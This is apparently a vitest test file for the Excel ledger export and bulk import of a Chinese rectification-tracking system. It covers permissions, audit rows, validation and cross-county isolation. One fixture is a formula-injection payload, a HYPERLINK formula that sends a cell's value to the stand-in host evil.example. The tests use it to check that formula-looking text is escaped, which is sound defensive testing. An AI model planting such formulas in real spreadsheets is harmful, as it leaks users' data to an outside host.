import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import type { FastifyInstance } from 'fastify';
import { createMongoAbility } from '@casl/ability';
import { ITEM_CATEGORIES, ITEM_CATEGORY_LABELS, ITEM_STATUS_LABELS, calendarDate, escapeFormula } from '@fz/domain';
import type { AppAbility, ItemListInput } from '@fz/domain';
import { withSystem } from '@fz/db';
import { buildApp } from '../src/app.js';
import type { Services } from '../src/trpc/context.js';
import { auditWriter } from '../src/trpc/audit.js';
import { resolveSession } from '../src/modules/auth/session.js';
import { exportLedger } from '../src/modules/items/excel/export.js';
import { demoDatabase, servicesFor } from './helpers.js';
import { ALLOW_ALL_RULES } from './matrix.js';
import { PDF, TODAY, auditCount, eventsOf, failure, finding, inDays, multipart, sessions, unitIdOf, upload } from './rect-helpers.js';

let env: Awaited<ReturnType<typeof demoDatabase>>;
let services: Services;
let app: FastifyInstance;
const as = sessions(() => services);
/** 2026年法治督察 of 河东区 and 兰山区: the ledger the export reads. */
let ledgerInspection: number;
/** The same two targets, filled by imports. */
let importInspection: number;
/** Of 河东区 only. */
let hedongOnly: number;
let sfj: number;
const ids = { formula: 0, plus: 0, flagged: 0, closed: 0, lanshan: 0 };

const LEDGER_HEADERS = ['序号', '问题编号', '督察名称', '反馈问题', '问题类别', '整改要求', '责任单位', '所属区划', '整改时限', '整改措施', '整改状态', '预警', '挂牌督办', '佐证材料数', '销号时间'];
const IMPORT_HEADERS = ['问题编号', '督察对象(区划代码)', '反馈问题', '问题类别', '整改要求', '责任单位', '整改时限(YYYY-MM-DD)'];
const FORMULA_PROBLEM = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")';

beforeAll(async () => {
  env = await demoDatabase();
  services = servicesFor(env.db, { today: () => TODAY });
  app = await buildApp({ services, ping: async () => true, webDist: null, logLevel: 'silent' });
  sfj = await unitIdOf(env.db, 371312, '河东区司法局');
  const province = (await as('province')).caller;
  const open = async (title: string, targetIds: number[]) => (await province.inspections.create({ type: 'rule_of_law', title, periodStart: '2026-09-01', periodEnd: '2026-09-10', targetIds })).id;
  ledgerInspection = await open('2026年法治督察', [371312, 371302]);
  importInspection = await open('2026年专项督察', [371312, 371302]);
  hedongOnly = await open('河东区暗访核查', [371312]);
  const create = async (target: number, over: Parameters<typeof finding>[2]) => (await province.items.create(finding(ledgerInspection, target, over))).id;
  ids.formula = await create(371312, { number: 'E-001', problem: FORMULA_PROBLEM, deadline: inDays(-2), responsibleUnitId: sfj });
  ids.plus = await create(371312, { number: 'E-002', problem: '+86 电话回访记录不全', deadline: inDays(3), category: 'decisions' });
  ids.flagged = await create(371312, { number: 'E-003', deadline: inDays(40) });
  ids.closed = await create(371312, { number: 'E-004', deadline: inDays(-10) });
  ids.lanshan = await create(371302, { number: 'E-005', problem: '兰山区行政复议案件办理超期', deadline: inDays(20) });
  await province.items.flag({ id: ids.flagged, flagged: true, reason: '久拖未改' });
  const sfjCaller = (await as('hedong-sfj')).caller;
  const formulaItem = await sfjCaller.items.get({ id: ids.formula });
  await sfjCaller.items.setMeasures({ id: ids.formula, version: formulaItem.version, measures: '-1. 补正执法记录;@所有人 组织培训' });
  await upload(app, (await as('hedong-sfj')).token, ids.formula, '整改报告.pdf', PDF);
  // Set-up shortcut, as the system: closed on 2026-11-20 Beijing time (the lifecycle is tested elsewhere).
  await env.db.updateTable('rectification_items').set({ status: 'closed', closed_at: new Date('2026-11-19T17:30:00Z') }).where('id', '=', ids.closed).execute();
});
afterAll(async () => {
  await app.close();
  await env.close();
});

const cookie = async (username: string) => ({ cookie: `fz_sid=${(await as(username)).token}` });

async function exportAs(username: string | null, filter: Record<string, unknown> | string, server = app) {
  const input = typeof filter === 'string' ? filter : JSON.stringify(filter);
  return server.inject({ url: `/api/items/export.xlsx?input=${encodeURIComponent(input)}`, headers: username ? await cookie(username) : {} });
}

async function workbookOf(body: Buffer): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(new Uint8Array(body).buffer);
  return wb;
}

/** The values of a sheet row from column 1, dates as yyyy-mm-dd. */
function rowValues(ws: ExcelJS.Worksheet, n: number, width: number): unknown[] {
  return Array.from({ length: width }, (_, i) => {
    const v = ws.getRow(n).getCell(i + 1).value;
    return v instanceof Date ? v.toISOString().slice(0, 10) : (v ?? null);
  });
}

async function ledgerSheet(res: { rawPayload: Buffer }) {
  const ws = (await workbookOf(res.rawPayload)).getWorksheet('整改台账');
  if (!ws) throw new Error('no 整改台账 sheet');
  const numbers: string[] = [];
  for (let r = 3; r <= ws.rowCount; r++) numbers.push(String(ws.getRow(r).getCell(2).value));
  return { ws, numbers };
}

describe('ledger export', () => {
  it('has every row items.list returns for the filter, in its order, with the province’s columns', async () => {
    const filter: Partial<ItemListInput> = { inspectionId: ledgerInspection, sort: 'number' };
    const res = await exportAs('hedong', filter);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="____-20261123.xlsx"; filename*=UTF-8''${encodeURIComponent('整改台账-20261123.xlsx')}`);

    const { ws } = await ledgerSheet(res);
    expect(ws.getCell('A1').value).toBe('河东区整改台账(导出时间 2026-11-23)');
    expect(rowValues(ws, 2, LEDGER_HEADERS.length)).toEqual(LEDGER_HEADERS);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 2 });

    const listed = (await (await as('hedong')).caller.items.list({ ...filter, limit: 200 })).items;
    expect(listed.map((i) => i.number)).toEqual(['E-001', 'E-002', 'E-003', 'E-004']);
    expect(ws.rowCount).toBe(2 + listed.length);
    listed.forEach((item, i) => {
      expect(rowValues(ws, 3 + i, LEDGER_HEADERS.length)).toEqual([
        i + 1,
        item.number,
        '2026年法治督察',
        escapeFormula(item.problem),
        ITEM_CATEGORY_LABELS[item.category]['zh-CN'],
        item.requirement,
        item.unitName ?? '',
        item.jurisdictionName,
        item.deadline,
        escapeFormula(item.measures ?? ''),
        ITEM_STATUS_LABELS[item.status]['zh-CN'],
        { red: '红', yellow: '黄', green: '绿', none: '' }[item.light],
        item.flagged ? '是' : '否',
        item.evidenceCount,
        item.closedAt ? calendarDate(new Date(item.closedAt)) : null,
      ]);
    });
    // Spot checks against the set-up, so the comparison above is not vacuous.
    expect(rowValues(ws, 3, 15)).toEqual(expect.arrayContaining(['红', '河东区司法局', '否', 1, "'-1. 补正执法记录;@所有人 组织培训"]));
    expect(rowValues(ws, 5, 15)[12]).toBe('是');
    expect(rowValues(ws, 6, 15)).toEqual(expect.arrayContaining(['已销号', '', '2026-11-20']));
  });

  it('stores formula-looking text as text that Excel never evaluates', async () => {
    const { ws } = await ledgerSheet(await exportAs('province', { inspectionId: ledgerInspection, sort: 'number' }));
    const problem = ws.getRow(3).getCell(4);
    expect(problem.type).toBe(ExcelJS.ValueType.String);
    expect(problem.formula).toBeUndefined();
    expect(problem.value).toBe(`'${FORMULA_PROBLEM}`);
    expect(ws.getRow(4).getCell(4).value).toBe("'+86 电话回访记录不全");
    for (let r = 3; r <= ws.rowCount; r++) ws.getRow(r).eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula));
  });

  it('applies the list filters and sort, and records the export in the audit log', async () => {
    const filter: Partial<ItemListInput> = { inspectionId: ledgerInspection, light: ['red', 'yellow'], sort: 'deadline' };
    const before = await auditCount(env.db);
    const { numbers } = await ledgerSheet(await exportAs('province', filter));
    const listed = (await (await as('province')).caller.items.list({ ...filter, limit: 200 })).items;
    expect(numbers).toEqual(listed.map((i) => i.number));
    expect(numbers).toEqual(['E-001', 'E-002']);
    expect(await auditCount(env.db)).toBe(before + 1);
    const audit = await env.db.selectFrom('audit_log').select(['action', 'subject_type', 'jurisdiction_id', 'after']).orderBy('id', 'desc').executeTakeFirstOrThrow();
    expect(audit).toMatchObject({ action: 'item.export', subject_type: 'RectificationItem', jurisdiction_id: 37, after: { rowCount: 2, filter: { light: ['red', 'yellow'] } } });
  });

  it('holds only what the caller may read', async () => {
    expect((await ledgerSheet(await exportAs('lanshan', { inspectionId: ledgerInspection }))).numbers).toEqual(['E-005']);
    expect((await ledgerSheet(await exportAs('lanshan', {}))).numbers.filter((n) => n.startsWith('E-'))).toEqual(['E-005']);
    expect((await ledgerSheet(await exportAs('street', { inspectionId: ledgerInspection }))).numbers).toEqual([]);
    expect((await exportAs('hedong', { jurisdictionId: 371302 })).statusCode).toBe(404);
  });

  it('needs a session and valid filters, answered in Chinese', async () => {
    expect((await exportAs(null, {})).statusCode).toBe(401);
    const notJson = await exportAs('province', '{status:');
    expect([notJson.statusCode, notJson.json().error.message]).toEqual([400, '导出条件无效,请刷新页面后重试']);
    const badStatus = await exportAs('province', { status: ['lost'] });
    expect(badStatus.statusCode).toBe(400);
    expect(badStatus.json().error.message).toMatch(/^输入不符合要求\(status/);
  });

  it('refuses more rows than the cap instead of cutting them off', async () => {
    const { token } = await as('province');
    const session = (await resolveSession(env.db, token))!;
    const ctx = { session, principal: session.principal, ability: services.abilityFor(session.principal), audit: auditWriter(session.principal, session.username, { requestId: 'cap', ip: null }) };
    const scope = { userId: session.principal.userId, level: session.principal.jurisdiction.level, jurisdictionId: session.principal.jurisdiction.id };
    const filter = { inspectionId: ledgerInspection, sort: 'number' as const };
    expect(await failure(services.runScoped(scope, (tx) => exportLedger(tx, ctx, TODAY, filter, 4)))).toEqual({ code: 'BAD_REQUEST', message: '符合条件的事项超过 4 条,请使用“后台导出”,或缩小筛选范围后分批导出' });
    expect((await services.runScoped(scope, (tx) => exportLedger(tx, ctx, TODAY, filter, 5))).rowCount).toBe(5);
  });
});

async function templateAs(username: string | null, inspectionId: number, server = app) {
  return server.inject({ url: `/api/inspections/${inspectionId}/items/template.xlsx`, headers: username ? await cookie(username) : {} });
}

type Cell = ExcelJS.CellValue;

/** The province's template of the import inspection with `rows` filled in from row 2. */
async function filledTemplate(rows: Cell[][]): Promise<Buffer> {
  const template = await templateAs('province', importInspection);
  const wb = await workbookOf(template.rawPayload);
  const ws = wb.getWorksheet('整改事项')!;
  rows.forEach((values, r) => values.forEach((v, c) => (ws.getRow(r + 2).getCell(c + 1).value = v)));
  return Buffer.from(await wb.xlsx.writeBuffer());
}

async function importAs(username: string | null, inspectionId: number, data: Buffer, fileName = '导入.xlsx', headers: Record<string, string> = { 'x-fz-csrf': '1' }, server = app) {
  const body = multipart(fileName, data);
  return server.inject({
    method: 'POST',
    url: `/api/inspections/${inspectionId}/items/import`,
    payload: body.payload,
    headers: { 'content-type': body.contentType, ...(username ? await cookie(username) : {}), ...headers },
  });
}

const importedNumbers = async () => (await (await as('province')).caller.items.list({ inspectionId: importInspection, limit: 200, sort: 'number' })).items.map((i) => i.number);

describe('import template', () => {
  it('has the header row, drop-downs, and a sheet of rules, categories, targets and units', async () => {
    const res = await templateAs('province', importInspection);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toContain(`filename*=UTF-8''${encodeURIComponent('整改事项导入模板-2026年专项督察.xlsx')}`);
    const wb = await workbookOf(res.rawPayload);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['整改事项', '填写说明']);
    const data = wb.getWorksheet('整改事项')!;
    expect(rowValues(data, 1, IMPORT_HEADERS.length)).toEqual(IMPORT_HEADERS);
    expect(data.getCell('D2').dataValidation).toMatchObject({ type: 'list', formulae: [expect.stringMatching(/^'填写说明'!\$B\$\d+:\$B\$\d+$/)] });
    expect(data.getCell('D2001').dataValidation).toMatchObject({ type: 'list' });

    const help = wb.getWorksheet('填写说明')!;
    const texts = new Set<string>();
    help.eachRow((row) => row.eachCell((c) => texts.add(String(c.value))));
    for (const c of ITEM_CATEGORIES) expect(texts).toContain(ITEM_CATEGORY_LABELS[c]['zh-CN']);
    for (const t of ['371312', '河东区', '371302', '兰山区', '河东区司法局', '兰山区司法局', '司法局', '整改时限(YYYY-MM-DD)']) expect(texts).toContain(t);
    // The category drop-down points at exactly the category labels.
    const [, from, to] = /\$B\$(\d+):\$B\$(\d+)/.exec(String(data.getCell('D2').dataValidation.formulae[0]))!;
    const listed = Array.from({ length: Number(to) - Number(from) + 1 }, (_, i) => help.getCell(`B${Number(from) + i}`).value);
    expect(listed).toEqual(ITEM_CATEGORIES.map((c) => ITEM_CATEGORY_LABELS[c]['zh-CN']));
  });

  it('is only for callers who may issue findings of the inspection', async () => {
    expect((await templateAs(null, importInspection)).statusCode).toBe(401);
    expect((await templateAs('hedong', importInspection)).statusCode).toBe(403);
    expect((await templateAs('hedong-sfj', importInspection)).statusCode).toBe(403);
    expect((await templateAs('lanshan', hedongOnly)).statusCode).toBe(404);
    expect((await templateAs('linyi', importInspection)).statusCode).toBe(403);
    expect((await app.inject({ url: '/api/inspections/abc/items/template.xlsx', headers: await cookie('province') })).statusCode).toBe(400);
  });
});

describe('bulk import', () => {
  const good: Cell[][] = [
    ['I-001', '371312', '执法全过程记录缺失', '行政执法', '补齐记录并培训', '司法局', '2026-12-31'],
    ['I-002', 371312, '重大决策未经合法性审查', '重大行政决策', '建立审查台账', '河东区司法局', new Date(Date.UTC(2027, 0, 15))],
    [],
    ['I-003', '兰山区', '=SUM(1,2) 式的文本也原样保存', '其他', '限期整改', null, '2027/2/1'],
  ];

  it('imports a filled template in one go, each item with its event and audit row', async () => {
    const auditsBefore = await auditCount(env.db);
    const res = await importAs('province', importInspection, await filledTemplate(good));
    expect([res.statusCode, res.json()]).toEqual([201, { imported: 3 }]);

    const items = (await (await as('province')).caller.items.list({ inspectionId: importInspection, limit: 200, sort: 'number' })).items;
    expect(items.map((i) => [i.number, i.jurisdictionId, i.category, i.responsibleUnitId, i.deadline, i.status])).toEqual([
      ['I-001', 371312, 'enforcement', sfj, '2026-12-31', 'issued'],
      ['I-002', 371312, 'decisions', sfj, '2027-01-15', 'issued'],
      ['I-003', 371302, 'other', null, '2027-02-01', 'issued'],
    ]);
    expect(items[2]!.problem).toBe('=SUM(1,2) 式的文本也原样保存');
    for (const i of items) expect(await eventsOf(env.db, i.id)).toEqual(['create']);
    const audits = await env.db.selectFrom('audit_log').select(['action', 'subject_id']).where('id', '>', sql<string>`(select max(id) - 4 from audit_log)`).orderBy('id').execute();
    expect(await auditCount(env.db)).toBe(auditsBefore + 4);
    expect(audits).toEqual([...items.map((i) => ({ action: 'item.create', subject_id: String(i.id) })), { action: 'item.import', subject_id: String(importInspection) }]);
    expect((await (await as('province')).caller.inspections.get({ id: importInspection })).status).toBe('rectifying');
  });

  it('imports nothing the second time: every row names the duplicate number', async () => {
    const file = await filledTemplate(good);
    const before = await auditCount(env.db);
    const res = await importAs('province', importInspection, file);
    expect(res.statusCode).toBe(400);
    expect(res.json().errors).toEqual([2, 3, 5].map((row) => ({ row, column: '问题编号', message: '本次督察中已有相同编号的问题' })));
    expect(res.json().message).toBe('导入失败:第 2 行“问题编号”本次督察中已有相同编号的问题(另有 2 处错误)');
    expect(await importedNumbers()).toEqual(['I-001', 'I-002', 'I-003']);
    expect(await auditCount(env.db)).toBe(before);
  });

  it('imports nothing when one row is bad, and reports every bad row by its Excel row number', async () => {
    const before = await auditCount(env.db);
    const res = await importAs(
      'province',
      importInspection,
      await filledTemplate([
        ['J-001', '371312', '问题', '行政执法', '要求', '', '2026-12-31'],
        ['J-002', '371312', '问题', '行政执法', '要求', '', '2026-02-30'],
        ['J-003', '371312', '问题', '行政执法', '要求', '不存在的局', '2026-12-31'],
        ['J-001', '371302', '问题', '行政执法', '要求', '', '2026-12-31'],
        ['J-005', '371312', '问题', '乱填的类别', '要求', '', '2026-12-31'],
        ['J-006', '110101', '问题', '行政执法', '要求', '', '2026-12-31'],
        ['J-007', '371312', { formula: 'A2&"x"' }, '行政执法', '', '', '2026-12-31'],
        ['J 008', '371302', '问题', '行政执法', '要求', '', '2026-12-31'],
      ]),
    );
    expect(res.statusCode).toBe(400);
    const body = res.json();
    expect(body.errors).toEqual([
      { row: 3, column: '整改时限', message: '日期格式应为 YYYY-MM-DD' },
      { row: 4, column: '责任单位', message: '督察对象下没有名为“不存在的局”的单位' },
      { row: 5, column: '问题编号', message: '与第 2 行的问题编号重复' },
      { row: 6, column: '问题类别', message: '问题类别须从下拉列表中选择(可选值见“填写说明”)' },
      { row: 7, column: '督察对象', message: '该行政区划不是本次督察的对象' },
      { row: 8, column: '反馈问题', message: '请直接填写内容,不要使用公式' },
      { row: 8, column: '整改要求', message: '不能为空' },
      { row: 9, column: '问题编号', message: '编号只能包含文字、数字和 - _ . ( ) 〔 〕 #' },
    ]);
    expect(body.message).toBe('导入失败:第 3 行“整改时限”日期格式应为 YYYY-MM-DD(另有 7 处错误)');
    expect(body.error.message).toBe(body.message);
    expect(await importedNumbers()).toEqual(['I-001', 'I-002', 'I-003']);
    expect(await auditCount(env.db)).toBe(before);
  });

  it('takes .xlsx files only, checked by content, within the size limit', async () => {
    const pdf = await importAs('province', importInspection, PDF, '台账.xlsx');
    expect([pdf.statusCode, pdf.json().error.message]).toEqual([400, '只能导入 .xlsx 格式的 Excel 文件,请使用导入模板填写']);
    const real = await filledTemplate([['K-001', '371312', '问题', '行政执法', '要求', '', '2026-12-31']]);
    expect((await importAs('province', importInspection, real, '台账.xls')).statusCode).toBe(400);
    const docx = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(26), Buffer.from('[Content_Types].xml word/document.xml')]);
    expect((await importAs('province', importInspection, docx, '台账.xlsx')).statusCode).toBe(400);
    const big = await importAs('province', importInspection, Buffer.concat([real, Buffer.alloc(5 * 1024 * 1024)]));
    expect([big.statusCode, big.json().error.message]).toEqual([413, '导入文件不能超过 5 MB']);

    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('自制表').addRow(['问题编号', '反馈问题']);
    wb.getWorksheet('自制表')!.addRow(['K-002', '问题']);
    const own = await importAs('province', importInspection, Buffer.from(await wb.xlsx.writeBuffer()));
    expect([own.statusCode, own.json().error.message]).toEqual([400, '缺少“督察对象”列,请使用导入模板填写']);
    const empty = await importAs('province', importInspection, await filledTemplate([]));
    expect([empty.statusCode, empty.json().error.message]).toEqual([400, '文件中没有可导入的数据']);
    expect(await importedNumbers()).toEqual(['I-001', 'I-002', 'I-003']);
  });

  it('needs a session, the anti-CSRF header and the right to issue findings of that inspection', async () => {
    const file = await filledTemplate([['L-001', '371312', '问题', '行政执法', '要求', '', '2026-12-31']]);
    expect((await importAs(null, importInspection, file)).statusCode).toBe(401);
    expect((await importAs('province', importInspection, file, '导入.xlsx', {})).statusCode).toBe(403);
    expect((await importAs('hedong', importInspection, file)).statusCode).toBe(403);
    expect((await importAs('lanshan', hedongOnly, file)).statusCode).toBe(404);
    expect((await importAs('hedong-sfj', importInspection, file)).statusCode).toBe(403);
    expect(await importedNumbers()).toEqual(['I-001', 'I-002', 'I-003']);
  });
});

describe('each isolation layer alone keeps a sibling county out', () => {
  const layers: Record<string, Partial<Services>> = {
    'CASL alone (RLS bypassed)': { runScoped: (_scope, fn) => withSystem(env.db, fn) },
    'RLS alone (allow-all ability)': { abilityFor: () => createMongoAbility(ALLOW_ALL_RULES) as unknown as AppAbility },
  };
  for (const [layer, overrides] of Object.entries(layers)) {
    it(layer, async () => {
      const server = await buildApp({ services: servicesFor(env.db, { today: () => TODAY, ...overrides }), ping: async () => true, webDist: null, logLevel: 'silent' });
      try {
        expect((await ledgerSheet(await exportAs('lanshan', { inspectionId: ledgerInspection }, server))).numbers).toEqual(['E-005']);
        expect([403, 404]).toContain((await exportAs('lanshan', { jurisdictionId: 371312 }, server)).statusCode);
        expect([403, 404]).toContain((await templateAs('lanshan', hedongOnly, server)).statusCode);
        const file = await filledTemplate([['M-001', '371312', '问题', '行政执法', '要求', '', '2026-12-31']]);
        expect([403, 404]).toContain((await importAs('lanshan', hedongOnly, file, '导入.xlsx', { 'x-fz-csrf': '1' }, server)).statusCode);
        expect(await env.db.selectFrom('rectification_items').select('id').where('number', '=', 'M-001').execute()).toEqual([]);
      } finally {
        await server.close();
      }
    });
  }
});
